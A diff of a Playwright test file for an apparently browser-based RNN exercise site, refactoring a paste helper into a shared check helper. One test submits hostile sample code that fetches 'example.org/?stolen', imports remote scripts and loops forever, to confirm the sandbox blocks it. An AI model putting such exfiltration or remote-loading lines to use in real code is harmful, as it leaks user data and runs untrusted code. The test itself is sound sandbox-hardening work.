@@ -1,15 +1,6 @@
-import type { Page } from '@playwright/test';
 import { exerciseOf } from '../src/exercises/exercises.ts';
-import { cell } from './journeys.ts';
+import { cell, check } from './journeys.ts';
 import { expect, expectAccessible, openLesson, test } from './support.ts';
-
-/** Replaces what stands in the editor of an exercise, as a person pastes. */
-async function paste(page: Page, title: string, code: string): Promise<void> {
-  const editor = cell(page, title).getByRole('textbox', { name: `Code: ${title}` });
-  await editor.click();
-  await page.keyboard.press('Control+a');
-  await page.keyboard.insertText(code);
-}
 
 const step = exerciseOf('rnn/rnn-step');
 
@@ -20,8 +11,7 @@ test('an exercise is solved, trained with, questions are answered, and a reload 
   const exercise = cell(page, step.title);
   await exercise.scrollIntoViewIfNeeded();
   const wrong = step.reference.replace('return tf.add(tf.mul(mask, next), kept)', 'return next');
-  await paste(page, step.title, wrong);
-  await page.keyboard.press('Control+Enter');
+  await check(page, step.title, wrong);
   await expect(
     exercise.getByText('The mask is not applied: the state changed on a padded step.'),
   ).toBeVisible({
@@ -30,8 +20,7 @@ test('an exercise is solved, trained with, questions are answered, and a reload 
   await expect(exercise.getByText('5 of 7 points')).toBeVisible();
   await expectAccessible(page);
 
-  await paste(page, step.title, step.reference);
-  await page.keyboard.press('Control+Enter');
+  await check(page, step.title, step.reference);
   await expect(exercise.getByText('Solved: 7 of 7 points')).toBeVisible({ timeout: 60_000 });
   await exercise.getByRole('button', { name: 'Reference solution' }).click();
   await expect(exercise.getByText('Opened after it was solved.')).toBeVisible();
@@ -62,7 +51,7 @@ test('hostile code is ended, and the page stays alive and closed', async ({ page
   page.on('request', (request) => asked.push(request.url()));
   await openLesson(page, 'rnn', 'wasm');
   const exercise = cell(page, step.title);
-  await paste(
+  await check(
     page,
     step.title,
     `const ways = [() => fetch('https://example.org/?stolen'), () => importScripts('https://example.org/x.js'),
@@ -72,7 +61,6 @@ test('hostile code is ended, and the page stays alive and closed', async ({ page
     import('https://example.org/x.js').then(() => console.log('OPEN'), () => {});
     function rnnStep() { for (;;) {} }`,
   );
-  await page.keyboard.press('Control+Enter');
   await expect(exercise.getByText(/gave no sign of life for 2 seconds/).first()).toBeVisible({
     timeout: 60_000,
   });
@@ -81,7 +69,6 @@ test('hostile code is ended, and the page stays alive and closed', async ({ page
   await expect(output).not.toContainText('OPEN');
   expect(asked.filter((url) => url.includes('example.org'))).toEqual([]);
   // The page goes on: the right code is checked at once.
-  await paste(page, step.title, step.reference);
-  await page.keyboard.press('Control+Enter');
+  await check(page, step.title, step.reference);
   await expect(exercise.getByText('Solved: 7 of 7 points')).toBeVisible({ timeout: 60_000 });
 });
